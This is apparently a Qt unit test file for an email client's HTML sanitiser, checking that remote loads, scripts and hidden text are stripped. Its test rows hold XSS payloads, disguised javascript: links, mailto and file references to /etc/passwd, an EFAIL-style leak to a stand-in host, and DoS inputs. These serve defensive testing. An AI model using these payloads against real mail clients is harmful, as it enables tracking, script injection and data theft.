// SPDX-License-Identifier: GPL-3.0-or-later
#include "mails.h"
#include "mime/csstokens.h"
#include "mime/html.h"
#include "mime/limits.h"

#include <QElapsedTimer>
#include <QTest>

using namespace satchel::mime;

/// The sanitiser: nothing is loaded, nothing runs, and what is left still looks like the mail (html.md, security.md).
class TestHtml : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void refersToNothingOutsideTheMessage_data();
    void refersToNothingOutsideTheMessage();
    void countsWhatIsBlocked_data();
    void countsWhatIsBlocked();
    void keepsNoScript_data();
    void keepsNoScript();
    void keepsOnlySafeLinks_data();
    void keepsOnlySafeLinks();
    void keepsWhatMakesAMailLookRight();
    void keepsSafeStyleSheets();
    void dropsStyleSheetsFromFragments();
    void readsEscapesInStyles_data();
    void readsEscapesInStyles();
    void showsInlinePicturesByTheirPart();
    void showsAlternativeTextOfBlockedPictures();
    void namesTheRemotePictures();
    void showsFetchedPicturesByTheirAddress();
    void keepsSmallDataPicturesOnly();
    void hidesPreheaders_data();
    void hidesPreheaders();
    void keepsMarkupOfThePlainTextAsText();
    void writesTextAsAReaderSeesIt_data();
    void writesTextAsAReaderSeesIt();
    void staysWithinItsLimits_data();
    void staysWithinItsLimits();
    void keepsTextBelowTheDeepestElement();
    void keepsTenNestedTables();
    void clampsLengthsAndSpans();
    void keepsPartsApart();
    void isStableWhenItReadsItsOwnOutput();
    void showsOverLimitHtmlAsText();

private:
    static SanitisedHtml clean(const QString &html, bool simple = true)
    {
        SanitiseOptions options;
        options.simpleHtml = simple;
        options.cidPrefix = QStringLiteral("m1");
        options.contentIds = {{"pic@x", 3}};
        return sanitise(html, options);
    }
};

void TestHtml::refersToNothingOutsideTheMessage_data()
{
    QTest::addColumn<QString>("html");
    const auto row = [](const char *name, const char *html) { QTest::newRow(name) << QString::fromUtf8(html); };
    row("img src", "<img src=\"http://evil.example/a.png\">");
    row("srcset", "<img srcset=\"http://evil.example/a.png 1x, //evil.example/b 2x\">");
    row("lowsrc", "<img lowsrc=http://evil.example/a>");
    row("background", "<table background=\"http://evil.example/a.png\"><tr><td background=//evil.example/b>x</table>");
    row("body background", "<body background='http://evil.example/a.png'>x");
    row("link",
        "<link rel=stylesheet href=http://evil.example/a.css><link rel=preconnect href=//evil.example>"
        "<link rel=dns-prefetch href=//evil.example><link rel=icon href=http://evil.example/i>");
    row("import string", "<style>@import \"http://evil.example/a.css\";</style>x");
    row("import url", "<style>@import url(http://evil.example/a.css);</style>x");
    row("escaped url", "<p style=\"background:\\75 rl(http://evil.example/a)\">x");
    row("escaped url in a sheet", "<style>p{background:\\000075\\72\\6C(http://evil.example/a)}</style>x");
    row("commented url", "<p style=\"background:u/**/rl(http://evil.example/a)\">x");
    row("font-face", "<style>@font-face{font-family:x;src:url(http://evil.example/f)}</style>x");
    row("content", "<style>p:before{content:url(http://evil.example/f)}</style><p>x");
    row("cursor", "<p style='cursor:url(http://evil.example/c),auto'>x");
    row("mask and filter", "<p style='mask:url(http://evil.example/c);filter:url(http://evil.example/f#x)'>x");
    row("image-set", "<p style='background-image:image-set(\"http://evil.example/a\" 1x)'>x");
    row("video",
        "<video poster=http://evil.example/p src=http://evil.example/v><source src=http://evil.example/s>"
        "<track src=http://evil.example/t></video><audio src=http://evil.example/a></audio>");
    row("object",
        "<object data=http://evil.example/o></object><embed src=http://evil.example/e>"
        "<applet code=x codebase=http://evil.example/></applet>");
    row("iframe",
        "<iframe src=http://evil.example/></iframe><iframe srcdoc=\"<img src=http://evil.example/>\"></iframe>");
    row("frames", "<frameset><frame src=http://evil.example/></frameset>");
    row("refresh", "<meta http-equiv=refresh content=\"0; url=http://evil.example/\">x");
    row("base", "<base href=http://evil.example/><img src=a.png>");
    row("form",
        "<form action=http://evil.example/><input type=image src=http://evil.example/i><button formaction="
        "http://evil.example/b>go</button></form>");
    row("svg",
        "<svg><image href=http://evil.example/a xlink:href=http://evil.example/b /><use href=http://evil.example/u#x />"
        "<feImage href=http://evil.example/f /><style>@import 'http://evil.example/s'</style></svg>");
    row("scheme-relative", "<img src=//evil.example/a>");
    row("one slash", "<img src=http:/evil.example/a>");
    row("backslashes", "<img src=\"\\\\evil.example\\a\"><img src=\"http:\\\\evil.example\\a\">");
    row("tab in the scheme", "<img src=\"ht\ttp://evil.example/a\"><img src=\" http://evil.example/b\">");
    row("newline in the scheme", "<img src=\"ht\ntp://evil.example/a\">");
    row("upper case", "<IMG SRC=HTTP://evil.example/a>");
    row("a file on a share", "<img src=\"file://\\\\evil.example\\share\\a.png\"><img src=file:///etc/passwd>");
    row("entities", "<img src=\"&#104;ttp://evil.example/a\">");
    row("list-style", "<ul style=\"list-style-image:url(http://evil.example/a)\"><li>x</ul>");
    row("border image", "<p style=\"border-image:url(http://evil.example/a) 30\">x");
    row("ping", "<a href=\"https://good.example/\" ping=\"http://evil.example/p\">x</a>");
    row("picture", "<picture><source srcset=http://evil.example/a><img src=http://evil.example/b></picture>");
    row("noscript", "<noscript><img src=http://evil.example/a></noscript>");
    row("unclosed", "<img src=\"http://evil.example/");
    row("style ends early", "<style>p{color:red}</style ><img src=http://evil.example/></style>");
    row("comment tricks", "<!--><img src=http://evil.example/a>--><!-- x --!><img src=http://evil.example/b>");
    row("css string ends the element", "<style>p{font-family:'</style><img src=http://evil.example/>'}</style>");
    row("variable", "<p style=\"--x:url(http://evil.example/a);background:var(--x)\">x");
    row("src function", "<p style=\"background:src('http://evil.example/a')\">x");
    row("manifest", "<html manifest=http://evil.example/m><head profile=http://evil.example/p></head>x");
}

void TestHtml::refersToNothingOutsideTheMessage()
{
    QFETCH(QString, html);
    for (const bool simple : {true, false}) {
        const SanitisedHtml result = clean(html, simple);
        QVERIFY2(!result.html.contains(QStringLiteral("evil"), Qt::CaseInsensitive), qPrintable(result.html));
        QVERIFY2(!result.html.contains(QStringLiteral("file:"), Qt::CaseInsensitive), qPrintable(result.html));
        QVERIFY2(!result.html.contains(QStringLiteral("/etc/")), qPrintable(result.html));
    }
}

void TestHtml::countsWhatIsBlocked_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<int>("count");
    QTest::newRow("none") << QStringLiteral("<p>x<img src=cid:pic@x>") << 0;
    QTest::newRow("two pictures") << QStringLiteral("<img src=http://a.example/1><img src=//a.example/2>") << 2;
    QTest::newRow("one with a set") << QStringLiteral("<img src=http://a.example/1 srcset='http://a.example/2 2x'>")
                                    << 1;
    QTest::newRow("only a set") << QStringLiteral("<img srcset='http://a.example/2 2x'>") << 1;
    QTest::newRow("background") << QStringLiteral(
        "<td background=http://a.example/1><p style='background:url(http://a.example/2)'>")
                                << 1;
    QTest::newRow("cell background") << QStringLiteral("<table><tr><td background=http://a.example/1>x</table>") << 1;
    QTest::newRow("style") << QStringLiteral("<p style='background:red url(http://a.example/2)'>x") << 1;
    QTest::newRow("import") << QStringLiteral("<style>@import url(http://a.example/2);</style>x") << 1;
    QTest::newRow("link") << QStringLiteral("<link rel=stylesheet href=http://a.example/2>x") << 1;
    QTest::newRow("a link is no load") << QStringLiteral("<a href=http://a.example/2>x</a>") << 0;
    QTest::newRow("in what is hidden") << QStringLiteral(
        "<div style='display:none'><img src=http://a.example/1></div>x")
                                       << 1;
}

void TestHtml::countsWhatIsBlocked()
{
    QFETCH(QString, html);
    QFETCH(int, count);
    QCOMPARE(clean(html).blockedRemote, count);
}

void TestHtml::keepsNoScript_data()
{
    QTest::addColumn<QString>("html");
    const auto row = [](const char *name, const char *html) { QTest::newRow(name) << QString::fromUtf8(html); };
    row("script", "<script>alert(1)</script>x");
    row("handler", "<p onclick='alert(1)' ONMOUSEOVER=alert(1)>x<img src=x onerror=alert(1)>");
    row("expression", "<p style='width:expression(alert(1))'>x");
    row("behaviour", "<p style='behavior:url(#alert)'>x");
    row("svg", "<svg onload=alert(1)><script>alert(1)</script></svg>");
    row("math",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src onerror=alert(1)&gt;\">");
    row("template", "<template><script>alert(1)</script></template>");
    row("mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>");
    row("xmp", "<listing>&lt;img onerror=alert(1)&gt;</listing>");
    row("style in style", "<style><style></style><script>alert(1)</script>");
    row("null", "<scr\0ipt>alert(1)</scr\0ipt>");
    row("attribute break", "<a title='\"><script>alert(1)</script>' href=\"https://a.example/\">x</a>");
}

void TestHtml::keepsNoScript()
{
    QFETCH(QString, html);
    for (const bool simple : {true, false}) {
        const QString result = clean(html, simple).html;
        // What is left may say these words as text, never as markup.
        for (const char *word : {"<script", "onclick=", "onerror=", "onload=", "onmouseover=", "expression(",
                 "behavior", "<svg", "<math", "<template", "<style><"}) {
            const QString wanted = QString::fromLatin1(word);
            qsizetype at = result.indexOf(wanted, 0, Qt::CaseInsensitive);
            while (at >= 0) {
                const qsizetype open = result.lastIndexOf(u'<', at);
                const qsizetype close = result.lastIndexOf(u'>', at);
                const bool inTag = open > close || result.at(at) == u'<';
                const qsizetype quotes = inTag ? result.mid(open, at - open).count(u'"') : 0;
                QVERIFY2(!inTag || quotes % 2 == 1, qPrintable(result));
                at = result.indexOf(wanted, at + 1, Qt::CaseInsensitive);
            }
        }
    }
}

void TestHtml::keepsOnlySafeLinks_data()
{
    QTest::addColumn<QString>("href");
    QTest::addColumn<QString>("kept"); // empty: no href at all
    const auto row = [](const char *name, const char *href, const char *kept) {
        QTest::newRow(name) << QString::fromUtf8(href) << QString::fromUtf8(kept);
    };
    row("https", "https://a.example/x?y=1&amp;z=2#f", "https://a.example/x?y=1&amp;z=2#f");
    row("http", "HTTP://a.example", "http://a.example");
    row("mailto", "mailto:ann@example.org?subject=Hi", "mailto:ann@example.org?subject=Hi");
    row("mailto with attachment", "mailto:a@example.org?subject=Hi&attach=/etc/passwd&ATTACHMENT=x&%61ttach=y",
        "mailto:a@example.org?subject=Hi");
    row("javascript", "javascript:alert(1)", "");
    row("javascript in disguise", "  java\tscript&colon;alert(1)", "");
    row("data", "data:text/html,<b>x", "");
    row("vbscript", "vbscript:x", "");
    row("file", "file:///etc/passwd", "");
    row("ftp", "ftp://a.example/", "");
    row("relative", "page.html", "");
    row("scheme-relative", "//a.example/x", "https://a.example/x");
    row("without scheme", "www.a.example/x", "http://www.a.example/x");
    row("within the mail", "#part-2", "#part-2");
    row("unknown", "satchel-cid:m1/3", "");
}

void TestHtml::keepsOnlySafeLinks()
{
    QFETCH(QString, href);
    QFETCH(QString, kept);
    const QString result = clean(QStringLiteral("<a href=\"") + href + QStringLiteral("\">x</a>")).html;
    if (kept.isEmpty())
        QVERIFY2(!result.contains(QStringLiteral("href")), qPrintable(result));
    else
        QVERIFY2(result.contains(QStringLiteral("href=\"") + kept + u'"'), qPrintable(result));
}

void TestHtml::keepsWhatMakesAMailLookRight()
{
    const QString html = QStringLiteral(
        "<body bgcolor=ffeedd text=\"#111111\"><center><table width=600 cellpadding=8 border=0 align=center "
        "bgcolor=\"#fff\">"
        "<tr><td colspan=2 valign=top style=\"width: 50%; padding: 4px 8px; font-family: 'Helvetica Neue', Arial; "
        "color: rgb(10, 20, 30); border-bottom: 1px solid #ccc\"><font face=Arial size=+1 color=red>Big</font>"
        "<b>bold</b><i>it</i><u>under</u><ol start=3 type=a><li>one</ol><blockquote>q</blockquote><pre>a\n b</pre><hr "
        "width=50%>"
        "</td></tr></table></center></body>");
    const QString result = clean(html).html;
    for (const char *kept : {"<body bgcolor=\"#ffeedd\" text=\"#111111\">", "<center>", "width=\"600\"",
             "cellpadding=\"8\"", "border=\"0\"", "align=\"center\"", "bgcolor=\"#fff\"", "colspan=\"2\"",
             "valign=\"top\"", "width=\"50%\"", "padding: 4px 8px", "font-family: 'Helvetica Neue', Arial",
             "color: rgb(10, 20, 30)", "border-bottom: 1px solid #ccc", "face=\"Arial\"", "size=\"+1\"",
             "color=\"red\"", "<b>bold</b>", "<i>it</i>", "<u>under</u>", "start=\"3\"", "type=\"a\"", "<li>one</li>",
             "<blockquote>q</blockquote>", "<pre>a\n b</pre>", "<hr width=\"50%\">"})
        QVERIFY2(result.contains(QString::fromLatin1(kept)), qPrintable(QString::fromLatin1(kept) + u'\n' + result));
}

void TestHtml::keepsSafeStyleSheets()
{
    const QString html = QStringLiteral("<style>/* c */ .a, td.b > p { color: red; position: fixed; margin: 0 }\n"
                                        "@media (prefers-color-scheme: dark) { .a { color: white } }\n"
                                        "@keyframes x { from { color: blue } }</style><p class=a>x");
    const QString full = clean(html, false).html;
    QVERIFY2(full.contains(QStringLiteral(".a, td.b > p { color: red; margin: 0 }")), qPrintable(full));
    QVERIFY2(
        full.contains(QStringLiteral("@media (prefers-color-scheme: dark) {\n.a { color: white }")), qPrintable(full));
    QVERIFY(!full.contains(QStringLiteral("blue")));
    QVERIFY(!full.contains(QStringLiteral("fixed")));
    const QString simple = clean(html, true).html;
    QVERIFY(simple.contains(QStringLiteral("color: red")));
    QVERIFY(!simple.contains(QStringLiteral("@media")));
}

void TestHtml::dropsStyleSheetsFromFragments()
{
    SanitiseOptions options;
    options.fragment = true;
    const QString result = sanitise(
        QStringLiteral("<style>div{color:red} .h{display:none}</style><body bgcolor=red>x<p class=h>hid"), options)
                               .html;
    QCOMPARE(result, QStringLiteral("<div bgcolor=\"red\">x</div>"));
}

void TestHtml::readsEscapesInStyles_data()
{
    QTest::addColumn<QString>("css");
    QTest::addColumn<QString>("first");
    QTest::newRow("hex") << QStringLiteral("\\75 rl") << QStringLiteral("url");
    QTest::newRow("six digits") << QStringLiteral("\\000075rl") << QStringLiteral("url");
    QTest::newRow("plain") << QStringLiteral("u\\rl") << QStringLiteral("url");
    QTest::newRow("zero") << QStringLiteral("\\0 x") << QStringLiteral("\ufffdx");
}

void TestHtml::readsEscapesInStyles()
{
    QFETCH(QString, css);
    QFETCH(QString, first);
    QCOMPARE(cssTokens(css).value(0).value, first);
}

void TestHtml::showsInlinePicturesByTheirPart()
{
    const SanitisedHtml result = clean(QStringLiteral("<img src=\"cid:pic%40x\" width=10 alt=A><img src=cid:none alt=B>"
                                                      "<td style='background:url(cid:pic@x)'>"));
    QVERIFY2(result.html.contains(QStringLiteral("src=\"satchel-cid:m1/3\"")), qPrintable(result.html));
    QVERIFY(!result.html.contains(QStringLiteral("cid:none")));
    QCOMPARE(result.usedParts, QList<int>{3});
    QCOMPARE(result.blockedRemote, 0);
}

void TestHtml::showsAlternativeTextOfBlockedPictures()
{
    const SanitisedHtml result = clean(QStringLiteral("<p>a <img src=http://a.example/1 alt=\"Our <logo>\"> b"));
    QVERIFY(result.html.contains(QStringLiteral("a Our &lt;logo&gt; b")));
    QVERIFY(!result.html.contains(QStringLiteral("<img")));
    QCOMPARE(result.text, QStringLiteral("a Our <logo> b"));
}

void TestHtml::namesTheRemotePictures()
{
    const SanitisedHtml result = clean(
        QStringLiteral("<img src=https://a.example/1.png><img src=https://a.example/1.png><img src=//b.example/2>"));
    QCOMPARE(result.remoteImages,
        QStringList({QStringLiteral("https://a.example/1.png"), QStringLiteral("https://b.example/2")}));
}

void TestHtml::showsFetchedPicturesByTheirAddress()
{
    SanitiseOptions options;
    options.cidPrefix = QStringLiteral("p");
    options.contentIds = {{"https://a.example/1.png", 7}};
    const SanitisedHtml result = sanitise(QStringLiteral("<img src=https://a.example/1.png>"), options);
    QVERIFY(result.html.contains(QStringLiteral("satchel-cid:p/7")));
    QCOMPARE(result.blockedRemote, 0);
}

void TestHtml::keepsSmallDataPicturesOnly()
{
    QVERIFY(clean(QStringLiteral("<img src=\"data:image/png;base64,iVBORw0KGgo=\">"))
            .html.contains(QStringLiteral("data:image/png")));
    QVERIFY(!clean(QStringLiteral("<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">"))
            .html.contains(QStringLiteral("data:")));
    QVERIFY(!clean(QStringLiteral("<img src=\"data:text/html,x\">")).html.contains(QStringLiteral("data:")));
    const QString large = QString(300 * 1024, u'A');
    QVERIFY(!clean(QStringLiteral("<img src=\"data:image/png;base64,") + large + QStringLiteral("\">"))
            .html.contains(QStringLiteral("data:")));
}

void TestHtml::hidesPreheaders_data()
{
    QTest::addColumn<QString>("html");
    const auto row = [](const char *name, const char *html) { QTest::newRow(name) << QString::fromUtf8(html); };
    row("display", "<div style=\"display:none\">secret</div>seen");
    row("important", "<div style=\"color:red;DISPLAY : none !important\">secret</div>seen");
    row("escaped", "<div style=\"d\\69splay:none\">secret</div>seen");
    row("visibility", "<span style='visibility:hidden'>secret</span>seen");
    row("outlook", "<span style='mso-hide:all'>secret</span>seen");
    row("no height", "<div style='max-height:0px;overflow:hidden'>secret</div>seen");
    row("transparent", "<div style='opacity:0'>secret</div>seen");
    row("attribute", "<div hidden>secret</div>seen");
    row("class", "<style>.pre { display: none }</style><div class='x pre'>secret</div>seen");
    row("id", "<style>#pre { display: none }</style><div id=pre>secret</div>seen");
}

void TestHtml::hidesPreheaders()
{
    QFETCH(QString, html);
    const SanitisedHtml result = clean(html);
    QCOMPARE(result.text, QStringLiteral("seen"));
    QVERIFY2(!result.html.contains(QStringLiteral("secret")), qPrintable(result.html));
    QVERIFY(result.html.contains(QStringLiteral("seen")));
}

void TestHtml::keepsMarkupOfThePlainTextAsText()
{
    const SanitisedHtml result = clean(QStringLiteral("1 &lt; 2 &amp;&amp; &lt;b&gt;no&lt;/b&gt;"));
    QVERIFY(result.html.contains(QStringLiteral("1 &lt; 2 &amp;&amp; &lt;b&gt;no&lt;/b&gt;")));
    QCOMPARE(result.text, QStringLiteral("1 < 2 && <b>no</b>"));
}

void TestHtml::writesTextAsAReaderSeesIt_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<QString>("text");
    const auto row = [](const char *name, const char *html, const char *text) {
        QTest::newRow(name) << QString::fromUtf8(html) << QString::fromUtf8(text);
    };
    row("paragraphs", "<p>one</p><p>two</p>", "one\n\ntwo");
    row("blocks", "<div>one</div><div>two<br>three</div>", "one\ntwo\nthree");
    row("inline", "a<b>b</b> c \n d", "ab c d");
    row("list", "<ul><li>one<li>two</ul>", "\u2022 one\n\u2022 two");
    row("numbers", "<ol><li>one<li>two</ol>", "1. one\n2. two");
    row("link", "<a href='https://a.example/x'>here</a>!", "here (https://a.example/x)!");
    row("link that says itself", "<a href='https://a.example/'>a.example</a>", "a.example");
    row("table", "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc");
    row("quote", "<div>x</div><blockquote>one<br>two</blockquote>y", "x\n\n> one\n> two\n\ny");
    row("pre", "<pre>a  b\n c</pre>", "a  b\n c");
    row("no code", "<style>p{}</style><script>x</script><title>t</title>seen", "seen");
    row("filler", "Hi&#847;&zwnj;&nbsp;&#8203;&nbsp;there", "Hi there");
    row("button", "<form>Name <input value=x><select><option>o</select></form>", "Name");
}

void TestHtml::writesTextAsAReaderSeesIt()
{
    QFETCH(QString, html);
    QFETCH(QString, text);
    QCOMPARE(clean(html).text, text);
}

void TestHtml::staysWithinItsLimits_data()
{
    QTest::addColumn<QString>("html");
    const auto row = [](const char *name, const QString &html) { QTest::newRow(name) << html; };
    const auto times = [](const char *text, int count) { return QString::fromLatin1(text).repeated(count); };
    row("nested divs", times("<div>", 60000) + QStringLiteral("seen"));
    row("nested fonts", times("<font size=1>", 30000) + QStringLiteral("seen"));
    row("nested tables", times("<table><tr><td>", 10000) + QStringLiteral("seen"));
    row("nested lists", times("<ul><li>", 30000) + QStringLiteral("seen"));
    row("nested quotes", times("<blockquote>", 30000) + QStringLiteral("seen"));
    QString fonts;
    for (int i = 0; i < 400; ++i)
        fonts += QStringLiteral("<font id=f%1>").arg(i);
    row("formatting opened again", fonts + times("<p>x", 40000) + QStringLiteral("seen"));
    row("paragraphs in buttons", times("<button><p>", 30000) + QStringLiteral("seen"));
    row(
        "many attributes", QStringLiteral("<p ") + [] {
            QString attributes;
            for (int i = 0; i < 40000; ++i)
                attributes += QStringLiteral("a%1=b ").arg(i);
            return attributes;
        }() + QStringLiteral(">seen"));
    row("unclosed tags", times("<a ", 100000) + QStringLiteral(">seen"));
    row("comments", times("<!--", 100000) + QStringLiteral("-->seen"));
    row("styles", times("<p style='color:red;color:red;color:red'>", 10000) + QStringLiteral("seen"));
    row("rules", QStringLiteral("<style>") + times("a{color:red}", 40000) + QStringLiteral("</style>seen"));
    row("brackets", QStringLiteral("<p style='color:") + times("(", 200000) + QStringLiteral("'>seen"));
    row("functions", QStringLiteral("<style>p{width:") + times("calc(", 50000) + QStringLiteral("</style>seen"));
    row("media", QStringLiteral("<style>") + times("@media screen{", 20000) + QStringLiteral("</style>seen"));
    row("entities", times("&amp;", 100000) + QStringLiteral("seen"));
    row("adoption", times("<b><p>", 30000) + times("</b>", 30000) + QStringLiteral("seen"));
    row("links", times("<a href=http://a.example>", 20000) + QStringLiteral("seen"));
    row("selects", times("<select><option>", 20000) + QStringLiteral("</select>seen"));
    row("end tags", times("</p></br>", 50000) + QStringLiteral("seen"));
    row("foster parents", QStringLiteral("<table>") + times("<b>x", 30000) + QStringLiteral("seen"));
    row("templates", times("<template>", 30000) + QStringLiteral("seen"));
    row("svg", times("<svg><g>", 30000) + QStringLiteral("seen"));
    row("too large", times("<p>word ", 100000));
}

void TestHtml::staysWithinItsLimits()
{
    QFETCH(QString, html);
    for (const bool simple : {true, false}) {
        QElapsedTimer timer;
        timer.start();
        const SanitisedHtml result = clean(html, simple);
        QVERIFY2(timer.elapsed() < 6000, qPrintable(QString::number(timer.elapsed())));
        QVERIFY2(result.overLimit == result.html.isEmpty(), qPrintable(result.html.left(200)));
        if (result.overLimit)
            QVERIFY(!result.text.isEmpty() || !html.contains(QStringLiteral("seen")));
    }
}

void TestHtml::keepsTextBelowTheDeepestElement()
{
    const SanitisedHtml result = clean(QStringLiteral("<div>").repeated(1000) + QStringLiteral("seen"));
    QVERIFY(result.html.contains(QStringLiteral("seen")));
    QVERIFY(result.html.count(QStringLiteral("<div")) <= limits::elementDepth);
    QCOMPARE(result.text, QStringLiteral("seen"));
}

void TestHtml::keepsTenNestedTables()
{
    const SanitisedHtml result = clean(QStringLiteral("<table><tr><td>").repeated(20) + QStringLiteral("seen"));
    QCOMPARE(result.html.count(QStringLiteral("<table")), limits::tableDepth);
    QVERIFY(result.html.contains(QStringLiteral("seen")));
}

void TestHtml::clampsLengthsAndSpans()
{
    const QString result = clean(QStringLiteral("<table width=99999999><tr><td colspan=100000 rowspan=99999 "
                                                "style='padding:1e30px;margin:-99999999px;width:1e99%'>x"))
                               .html;
    QVERIFY2(result.contains(QStringLiteral("width=\"10000\"")), qPrintable(result));
    QVERIFY(result.contains(QStringLiteral("colspan=\"100\"")));
    QVERIFY(result.contains(QStringLiteral("rowspan=\"1000\"")));
    QVERIFY(result.contains(QStringLiteral("padding: 10000px")));
    QVERIFY(result.contains(QStringLiteral("margin: -10000px")));
}

void TestHtml::keepsPartsApart()
{
    // An unclosed picture must not swallow the part behind it (EFAIL).
    const QByteArray raw = mails::withHeader("Content-Type: multipart/mixed; boundary=b\n",
        mails::part("b", "Content-Type: text/html\n", "<img src=\"http://evil.example/?")
            + mails::part("b", "Content-Type: text/plain\n", "the secret")
            + mails::part("b", "Content-Type: text/html\n", "\"><style>*{color:white}</style><p>end") + "--b--\n");
    const Message message = parse(raw);
    QVERIFY(!message.html.contains(QStringLiteral("evil")));
    QVERIFY(message.html.contains(QStringLiteral(">the secret</div>")));
    QVERIFY(!message.html.contains(QStringLiteral("<style")));
}

void TestHtml::isStableWhenItReadsItsOwnOutput()
{
    const QString html =
        QStringLiteral("<body style='color:#123'><p>a<b>b<i>c</p>d<table><td>e<a href=http://x.example/?a=1&b=2>f</a>"
                       "</table><pre>\n\ng &lt;</pre><a href=https://y.example/><div>h</div></a>");
    const QString once = clean(html, false).html;
    QCOMPARE(clean(once, false).html, once);
}

void TestHtml::showsOverLimitHtmlAsText()
{
    const QByteArray raw = mails::withHeader("Content-Type: text/html\n", QByteArray("<p>word</p>").repeated(100000));
    const Message message = parse(raw);
    QVERIFY(message.warnings.contains(Warning::HtmlOverLimit));
    QVERIFY(message.html.isEmpty());
    QVERIFY(message.text.startsWith(QStringLiteral("word\nword")));
}

QTEST_GUILESS_MAIN(TestHtml)
#include "tst_html.moc"
